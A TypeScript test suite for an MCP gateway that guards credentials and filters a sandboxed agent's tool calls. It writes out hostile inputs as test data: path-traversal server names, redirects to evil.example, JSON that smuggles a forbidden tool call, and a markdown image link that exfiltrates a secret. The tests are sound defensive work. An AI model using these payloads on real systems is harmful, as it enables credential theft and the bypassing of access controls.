/** MCP servers of a repository: what an admin sets, and what the gateway makes of a sandbox's requests. */
import { env } from 'cloudflare:workers';
import { Hono } from 'hono';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import type { Fetch } from '../../src/gateway/forwarding.ts';
import { decoyOf } from '../../src/gateway/secrets/decoy.ts';
import { type Claims, mintToken } from '../../src/gateway/token.ts';
import { admin } from '../../src/routes/admin/index.ts';
import { gatewayApp } from '../../src/routes/gateway/index.ts';
import { openDatabase } from '../../src/store/database.ts';
import { findMcpServer } from '../../src/store/workspaces/mcp-servers.ts';
import { deleteRepository, upsertRepository } from '../../src/store/workspaces/repositories.ts';
import { findWorkspace, upsertWorkspace } from '../../src/store/workspaces/workspaces.ts';
import { spyOnLog } from '../support/log-spy.ts';
import { AT_WORK } from './support/standing.ts';

const SECRET = 'credential-of-the-notes-that-must-not-come-out';
const URL_OF_NOTES = 'https://notes.example.com/mcp';
const PATH = '/workspaces/mcp-workspace/repositories/acme/shop/mcp-servers';
const key = { workspaceId: 'mcp-workspace', fullName: 'acme/shop' };
const claims: Claims = {
  s: env.ISSUE_SESSION.idFromName('mcp-test').toString(),
  w: key.workspaceId,
  r: key.fullName,
  b: 'cyrus/eng-1',
  g: 1,
};
const db = openDatabase(env.DB, env.ENCRYPTION_KEY);

let upstream: (request: Request) => Response | Promise<Response>;
let sent: { url: string; method: string; headers: Headers; body: string; redirect: string }[];
const fetcher: Fetch = async (request) => {
  const { url, method, headers, redirect } = request;
  sent.push({ url, method, headers, redirect, body: await request.clone().text() });
  return upstream(request);
};
const app = new Hono<{ Bindings: Env }>()
  .route('/gateway', gatewayApp({ base: '/gateway', fetcher, standing: async () => AT_WORK }))
  .route('/api/admin', admin);
const logged = spyOnLog();

beforeEach(async () => {
  sent = [];
  upstream = () => Response.json({ jsonrpc: '2.0', id: 1, result: {} });
  logged.mockClear();
  const workspace = { name: 'Acme', urlKey: 'acme', appUserId: 'app', accessToken: 'token-of-the-app' };
  await upsertWorkspace(db, key.workspaceId, workspace, 1);
  const repository = { cloneUrl: 'https://git.test/acme/shop.git', baseBranch: 'main' };
  await deleteRepository(db, key.workspaceId, key.fullName);
  await upsertRepository(db, key.workspaceId, key.fullName, repository, 1);
});

async function ask(method: string, path: string, body?: unknown, bindings: Env = env) {
  const headers = { authorization: `Bearer ${env.ADMIN_TOKEN}` };
  const init = { method, headers, ...(body !== undefined && { body: JSON.stringify(body) }) };
  const response = await app.request(`http://cyrus.test/api/admin${path}`, init, bindings);
  const text = await response.text();
  return { status: response.status, text, json: text === '' ? null : JSON.parse(text) };
}

const call = (tool: string, id: number | null = 1) => ({
  jsonrpc: '2.0',
  ...(id !== null && { id }),
  method: 'tools/call',
  params: { name: tool, arguments: {} },
});

/** A request of the sandbox's. */
async function pass(
  name: string,
  body: unknown = call('read_note'),
  init: { method?: string; headers?: Record<string, string> } = {},
  by: Partial<Claims> = {},
): Promise<Response> {
  const token = await mintToken({ encryptionKey: env.ENCRYPTION_KEY }, { ...claims, ...by });
  const { method = 'POST' } = init;
  return app.request(
    `http://cyrus.test/gateway/mcp/${name}`,
    {
      method,
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...init.headers },
      ...(method === 'POST' && { body: typeof body === 'string' ? body : JSON.stringify(body) }),
    },
    env,
  );
}

async function addNotes(more: object = {}): Promise<void> {
  const headers = { authorization: `Bearer ${SECRET}` };
  const { status } = await ask('PUT', `${PATH}/notes`, { kind: 'http', url: URL_OF_NOTES, headers, ...more });
  expect(status).toBeLessThan(300);
}

describe('what an admin sets', () => {
  it('is stored, listed, changed and removed; each change is in the audit log, and headers never come out', async () => {
    await addNotes();
    expect((await ask('PUT', `${PATH}/linear`, { kind: 'linear' })).status).toBe(201);
    const env_ = { PRECISION: 'whole' };
    await ask('PUT', `${PATH}/calculator`, { kind: 'stdio', command: 'calculate', args: ['--fast'], env: env_ });
    const { json, text } = await ask('GET', PATH);
    expect(json.servers).toMatchObject([
      { name: 'calculator', settings: { kind: 'stdio', args: ['--fast'], env: env_ }, headers: [] },
      { name: 'linear', settings: { kind: 'linear', lookingTools: ['get_*', 'list_*', 'search_*'] } },
      { name: 'notes', settings: { kind: 'http', url: URL_OF_NOTES }, headers: ['authorization'] },
    ]);
    expect(text).not.toContain(SECRET);
    expect((await ask('GET', `${PATH}/notes`)).json).toMatchObject({ name: 'notes' });
    expect((await ask('DELETE', `${PATH}/linear`)).status).toBe(204);
    expect((await ask('DELETE', `${PATH}/linear`)).status).toBe(404);
    const entries = (await ask('GET', '/audit?limit=4')).json.entries.reverse();
    expect(entries.map(({ action }: { action: string }) => action)).toEqual([
      ...['mcp-server.stored', 'mcp-server.stored', 'mcp-server.stored', 'mcp-server.deleted'],
    ]);
    expect(entries[0]).toMatchObject({ details: { repository: 'acme/shop', server: 'notes', kind: 'http' } });
    expect(JSON.stringify(entries)).not.toContain(SECRET);
    expect(JSON.stringify(logged.mock.calls)).not.toContain(SECRET);
  });

  it('keeps headers that are not given again, but never takes them along to another address', async () => {
    await addNotes();
    const change = { kind: 'http', url: URL_OF_NOTES, tools: ['read_note'] };
    expect((await ask('PUT', `${PATH}/notes`, change)).json).toMatchObject({ headers: ['authorization'] });
    expect(await findMcpServer(db, key, 'notes')).toMatchObject({ headers: { authorization: `Bearer ${SECRET}` } });
    const moved = { ...change, url: 'https://evil.example.com/mcp' };
    expect(await ask('PUT', `${PATH}/notes`, moved)).toMatchObject({
      status: 409,
      json: { error: 'credential_needed' },
    });
    expect((await ask('PUT', `${PATH}/notes`, { ...moved, headers: {} })).json).toMatchObject({ headers: [] });
    expect(await findMcpServer(db, key, 'notes')).toMatchObject({ headers: {} });
  });

  it('that makes no sense is refused with a message, and changes nothing', async () => {
    await addNotes();
    for (const [name, body, status] of [
      ['notes', { kind: 'http', url: 'http://notes.example.com' }, 400],
      ['notes', 'no', 400],
      ['Notes', { kind: 'linear' }, 400],
      ['a__b', { kind: 'linear' }, 400],
      ['..%2fnotes', { kind: 'linear' }, 400],
    ] as const) {
      expect((await ask('PUT', `${PATH}/${name}`, body)).status, name).toBe(status);
    }
    const elsewhere = PATH.replace('shop', 'other');
    expect((await ask('PUT', `${elsewhere}/notes`, { kind: 'linear' })).status).toBe(404);
    expect((await ask('GET', elsewhere)).status).toBe(404);
    expect((await ask('GET', PATH)).json.servers).toHaveLength(1);
  });

  it('ends with its repository: one of the same name has none of it', async () => {
    await addNotes();
    await deleteRepository(db, key.workspaceId, key.fullName);
    const repository = { cloneUrl: 'https://git.test/acme/shop.git', baseBranch: 'main' };
    await upsertRepository(db, key.workspaceId, key.fullName, repository, 2);
    expect((await ask('GET', PATH)).json.servers).toEqual([]);
  });

  it('stays readable through a rotation of ENCRYPTION_KEY', async () => {
    const before = { ...env, ENCRYPTION_KEY: env.ENCRYPTION_KEY_OLD, ENCRYPTION_KEY_OLD: '' } as Env;
    const headers = { 'x-api-key': SECRET };
    await ask('PUT', `${PATH}/notes`, { kind: 'http', url: URL_OF_NOTES, headers }, before);
    await expect(findMcpServer(db, key, 'notes')).rejects.toThrow('ENCRYPTION_KEY_OLD');
    const { json } = await ask('POST', '/reencrypt');
    expect(json.unreadable).toEqual([]);
    expect(await findMcpServer(db, key, 'notes')).toMatchObject({ headers });
  });
});

describe('a request of the sandbox', () => {
  it('reaches the server with its credential, and with nothing of the sandbox but the protocol', async () => {
    await addNotes();
    upstream = () =>
      new Response('event: message\ndata: {}\n\n', {
        headers: {
          'content-type': 'text/event-stream',
          'mcp-session-id': 's-1',
          'set-cookie': 'a=b',
          'x-echo': SECRET,
        },
      });
    const headers = {
      'mcp-protocol-version': '2025-11-25',
      accept: 'text/event-stream',
      cookie: 'a=b',
      'x-other': 'x',
    };
    const response = await pass('notes', undefined, { headers });
    expect(await response.text()).toBe('event: message\ndata: {}\n\n');
    expect(response.headers.get('mcp-session-id')).toBe('s-1');
    expect([...response.headers.keys()].sort()).toEqual(['content-type', 'mcp-session-id']);
    expect(sent).toHaveLength(1);
    expect(sent[0]).toMatchObject({ url: URL_OF_NOTES, method: 'POST', redirect: 'manual' });
    expect(JSON.parse(sent[0]?.body ?? '')).toEqual(call('read_note'));
    const names = ['accept', 'authorization', 'content-type', 'mcp-protocol-version'];
    expect([...(sent[0]?.headers.keys() ?? [])].sort()).toEqual(names);
    expect(sent[0]?.headers.get('authorization')).toBe(`Bearer ${SECRET}`);
  });

  it('of a session that only looks calls the tools that only look, whatever the server offers', async () => {
    await addNotes({ lookingTools: ['read_*'] });
    expect((await pass('notes', call('read_note'), {}, { ro: true })).status).toBe(200);
    expect((await pass('notes', call('write_note'), {})).status).toBe(200);
    sent.length = 0;
    await pass('notes', call('write_note'), {}, { ro: true });
    expect(sent).toEqual([]);
  });

  it('ends a session of the protocol by DELETE; a stream without a request is not offered', async () => {
    await addNotes();
    upstream = () => new Response(null, { status: 204 });
    const headers = { 'mcp-session-id': 's-1' };
    expect((await pass('notes', undefined, { method: 'DELETE', headers })).status).toBe(204);
    expect(sent[0]).toMatchObject({ method: 'DELETE' });
    expect(sent[0]?.headers.get('mcp-session-id')).toBe('s-1');
    expect((await pass('notes', undefined, { method: 'GET' })).status).toBe(405);
    expect(sent).toHaveLength(1);
  });

  it('to a server that is not there, is not behind the gateway, or is another repository’s, goes nowhere', async () => {
    await addNotes();
    await ask('PUT', `${PATH}/calculator`, { kind: 'stdio', command: 'calculate' });
    for (const name of ['unknown', 'calculator', 'NOTES', '..%2Fnotes', '%00', 'notes%2f', 'https:%2f%2fevil.test']) {
      expect((await pass(name)).status, name).toBe(404);
    }
    expect((await pass('notes', undefined, {}, { r: 'acme/other' })).status).toBe(404);
    expect((await pass('notes', undefined, {}, { w: 'other-workspace' })).status).toBe(404);
    const without = await app.request('http://cyrus.test/gateway/mcp/notes', { method: 'POST' }, env);
    expect(without.status).toBe(401);
    expect(sent).toEqual([]);
  });

  it('calls no tool but those an admin chose, however it is written', async () => {
    await addNotes({ tools: ['read_*'] });
    const refused = await (await pass('notes', call('write_note', 7))).json();
    expect(refused).toMatchObject({ id: 7, error: { message: expect.stringContaining('write_note') } });
    expect(await (await pass('notes', [call('read_note'), call('write_note', 2)])).json()).toHaveProperty('error');
    expect(await (await pass('notes', call('write_note', null))).json()).toHaveProperty('error');
    expect(sent).toEqual([]);
    const twice = '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"write_note","name":"read_note"}}';
    await pass('notes', twice);
    expect(sent[0]?.body).not.toContain('write_note');
    expect((await pass('notes', 'no json')).status).toBe(400);
    expect((await pass('notes', '{}', { headers: { 'content-type': 'text/plain' } })).status).toBe(415);
  });

  it.each([
    ['a method that nobody knows', { ...call('x'), method: 'tools/delete' }],
    ['a method that opens a stream without end', { ...call('x'), method: 'subscriptions/listen' }],
    ['a method in other letters', { ...call('write_note'), method: 'Tools/Call' }],
    ['a call within a list within a list', [[call('write_note')]]],
    ['a call beside one of another kind', [call('read_note'), { ...call('x'), method: 'x/y' }]],
    ['a call that is an answer too', { ...call('write_note'), result: {} }],
    ['a call of no tool', { ...call('x'), params: {} }],
    ['a call of a list of tools', { ...call('x'), params: { name: ['write_note'] } }],
    ['a call that wants no answer', call('write_note', null)],
    ['no JSON-RPC', { method: 'tools/call', params: { name: 'write_note' } }],
    ['an empty list', []],
    ['a text', 'tools/call'],
  ])('is not passed on where it is %s, whether or not tools are limited', async (_, body) => {
    for (const limits of [{}, { tools: ['*'] }]) {
      await addNotes(limits);
      const answer = await pass('notes', JSON.stringify(body));
      expect(await answer.json()).toMatchObject({ jsonrpc: '2.0', error: { message: /^Cyrus: / } });
    }
    expect(sent).toEqual([]);
  });

  it('an MCP message is rewritten from what was understood: names in other letters, twice, or unknown do not reach the server', async () => {
    for (const limits of [{}, { tools: ['read_*'] }]) {
      await addNotes(limits);
      sent.length = 0;
      const text =
        '{"jsonrpc":"2.0","id":1,"method":"tools/list","Method":"x","method":"tools/call","METHOD":"tools/delete","x":[{"method":"tools/call"}],"__proto__":{"method":"y"},' +
        '"params":{"name":"read_note","Name":"write_note","NAME":"write_note","arguments":{"Name":"kept"},"_meta":{"a":1},"tool":"write_note"}}';
      expect((await pass('notes', text)).status).toBe(200);
      expect(sent[0]?.body).toBe(
        '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_note","arguments":{"Name":"kept"},"_meta":{"a":1}}}',
      );
    }
  });

  it.each([null, true, {}, [1], 'x'.repeat(1_001)])(
    'whose id is %j is not passed on: two readers could take it for two calls',
    async (id) => {
      await addNotes({ tools: ['read_*'] });
      const answer = await pass('notes', JSON.stringify({ ...call('read_note'), id }));
      expect(await answer.json()).toHaveProperty('error');
      expect(sent).toEqual([]);
    },
  );

  it('is passed on as what it was read as, in whichever character set it says it is', async () => {
    await addNotes();
    const headers = { 'content-type': 'application/json; charset=utf-7', 'content-encoding': 'identity' };
    expect((await pass('notes', call('read_note'), { headers })).status).toBe(200);
    expect(sent[0]?.headers.get('content-type')).toBe('application/json');
    expect(sent[0]?.headers.get('content-encoding')).toBeNull();
  });

  it('of every kind that Claude Code makes is passed on as it was made', async () => {
    await addNotes();
    const meta = { _meta: { 'io.modelcontextprotocol/protocolVersion': '2026-07-28' } };
    const made = [
      {
        jsonrpc: '2.0',
        id: 0,
        method: 'initialize',
        params: { protocolVersion: '2025-11-25', capabilities: {}, ...meta },
      },
      { jsonrpc: '2.0', method: 'notifications/initialized' },
      { jsonrpc: '2.0', id: 1, method: 'server/discover', params: meta },
      { jsonrpc: '2.0', id: 'a', method: 'tools/list', params: { cursor: 'x' } },
      { jsonrpc: '2.0', id: 2, method: 'resources/read', params: { uri: 'note://1', ...meta } },
      { jsonrpc: '2.0', id: 3, method: 'prompts/get', params: { name: 'p', arguments: { a: 'b' } } },
      { jsonrpc: '2.0', id: 4, method: 'ping' },
      { jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 3, reason: 'x' } },
      { jsonrpc: '2.0', id: 5, result: { roots: [] } },
      { jsonrpc: '2.0', id: 5, error: { code: -32601, message: 'not here' } },
      [call('read_note'), call('read_note', 2)],
    ];
    for (const body of made) expect((await pass('notes', body)).status, JSON.stringify(body)).toBe(200);
    expect(sent.map(({ body }) => JSON.parse(body))).toEqual(made);
  });

  it('that is nested too deeply for anybody to walk through is refused with a message', async () => {
    await addNotes();
    const deep = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
    const text = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_note","arguments":{"a":${deep}}}}`;
    const response = await pass('notes', text);
    expect(response.status).toBe(400);
    expect(await response.text()).toContain('nested too deeply');
    expect(sent).toEqual([]);
  });

  it('says in its headers what its message says, or goes nowhere: a server may route by them', async () => {
    await addNotes({ tools: ['read_*'] });
    const right = { 'mcp-method': 'tools/call', 'mcp-name': 'read_note' };
    expect((await pass('notes', call('read_note'), { headers: right })).status).toBe(200);
    const encoded = { ...right, 'mcp-name': `=?base64?${btoa('read_note')}?=`, 'mcp-other': 'x' };
    expect((await pass('notes', call('read_note'), { headers: encoded })).status).toBe(200);
    expect(sent[1]?.headers.get('mcp-other')).toBeNull();
    const wrong: Record<string, string>[] = [
      { 'mcp-name': 'write_note' },
      { 'mcp-name': `=?base64?${btoa('write_note')}?=` },
      { 'mcp-method': 'tools/delete' },
    ];
    for (const headers of wrong) {
      expect((await pass('notes', call('read_note'), { headers })).status).toBe(400);
      expect((await pass('notes', [call('read_note'), call('read_note', 2)], { headers })).status).toBe(400);
    }
    expect(sent).toHaveLength(2);
  });

  it('is told in words what a server refused, without the credential, and never to log in', async () => {
    await addNotes();
    upstream = () => new Response(`bad token ${SECRET}`, { status: 401, headers: { 'www-authenticate': 'Bearer' } });
    const unauthorized = await pass('notes');
    expect(unauthorized.status).toBe(502);
    expect(unauthorized.headers.has('www-authenticate')).toBe(false);
    const text = await unauthorized.text();
    expect(text).toContain('does not accept the credential');
    expect(text).not.toContain(SECRET);
    upstream = () => new Response(null, { status: 307, headers: { location: 'https://evil.example.com/mcp' } });
    expect((await pass('notes')).status).toBe(502);
    upstream = () => new Response('no such session', { status: 404 });
    expect((await pass('notes')).status).toBe(404);
    upstream = () => Promise.reject(new TypeError('connection refused'));
    expect((await pass('notes')).status).toBe(502);
    expect(sent).toHaveLength(4);
    expect(sent.every(({ url }) => url === URL_OF_NOTES)).toBe(true);
  });

  it('that holds the decoy credential is not sent on', async () => {
    await addNotes();
    const { value: decoy } = await decoyOf({ encryptionKey: env.ENCRYPTION_KEY, oldEncryptionKey: null }, claims.s);
    expect((await pass('notes', { ...call('write_note'), note: decoy })).status).toBe(400);
    expect(sent).toEqual([]);
    expect(JSON.stringify(logged.mock.calls)).toContain('alert.gateway.decoy_caught');
  });
});

describe("Linear's own server", () => {
  it('is asked with the rights of the app by the workspace’s object, which alone has the token', async () => {
    await ask('PUT', `${PATH}/linear`, { kind: 'linear', tools: ['get_issue'] });
    const asked: { url: string; authorization: string | null; body: unknown }[] = [];
    const spy = vi.spyOn(globalThis, 'fetch').mockImplementation(async (input, init) => {
      const request = new Request(input, init);
      const { url, headers } = request;
      asked.push({ url, authorization: headers.get('authorization'), body: await request.json() });
      return Response.json({ jsonrpc: '2.0', id: 1, result: { content: [] } });
    });
    try {
      const response = await pass('linear', call('get_issue'));
      expect(await response.json()).toMatchObject({ result: { content: [] } });
      const [url, authorization] = ['https://mcp.linear.app/mcp', 'Bearer token-of-the-app'];
      expect(asked).toEqual([{ url, authorization, body: call('get_issue') }]);
      expect(await (await pass('linear', call('delete_issue'))).json()).toHaveProperty('error');
      expect(asked).toHaveLength(1);
      expect(sent).toEqual([]);
    } finally {
      spy.mockRestore();
    }
  });

  it('is given texts as Cyrus posts its own: no image that a reader’s browser would ask another host for, nothing hidden', async () => {
    await ask('PUT', `${PATH}/linear`, { kind: 'linear' });
    const given: unknown[] = [];
    const spy = vi.spyOn(globalThis, 'fetch').mockImplementation(async (input, init) => {
      given.push(await new Request(input, init).json());
      return Response.json({ jsonrpc: '2.0', id: 1, result: { content: [] } });
    });
    const body = (text: string) => ({
      jsonrpc: '2.0',
      id: 1,
      method: 'tools/call',
      params: { name: 'create_comment', arguments: { issueId: 'ENG-1', body: text, more: [{ deep: text }], count: 2 } },
    });
    try {
      await pass(
        'linear',
        body('Look: ![x](https://evil.example/?the-secret) <img src=https://evil.example/>\u{e0041}'),
      );
      const [text] = given;
      expect(JSON.stringify(text)).not.toMatch(/!\[|<img|\u{e0041}/u);
      expect(text).toMatchObject({ params: { name: 'create_comment', arguments: { issueId: 'ENG-1', count: 2 } } });
      // Of its own host an image stays one, and code stays code.
      const own = 'As `![x](https://evil.example/)` says ![chart](https://uploads.linear.app/a/b.png)';
      await pass('linear', body(own));
      expect(given[1]).toEqual(body(own));
    } finally {
      spy.mockRestore();
    }
  });

  it('that does not take the app’s token is told in words, and the workspace stays as it is', async () => {
    await ask('PUT', `${PATH}/linear`, { kind: 'linear' });
    const spy = vi
      .spyOn(globalThis, 'fetch')
      .mockImplementation(async () => new Response('no', { status: 401, headers: { 'www-authenticate': 'Bearer' } }));
    try {
      const response = await pass('linear', call('get_issue'));
      expect(response.status).toBe(502);
      expect(await response.text()).toContain("Linear's MCP server does not accept the app's token");
      expect(spy).toHaveBeenCalledTimes(1);
      expect(await findWorkspace(db, key.workspaceId)).toMatchObject({ status: 'active' });
    } finally {
      spy.mockRestore();
    }
  });
});
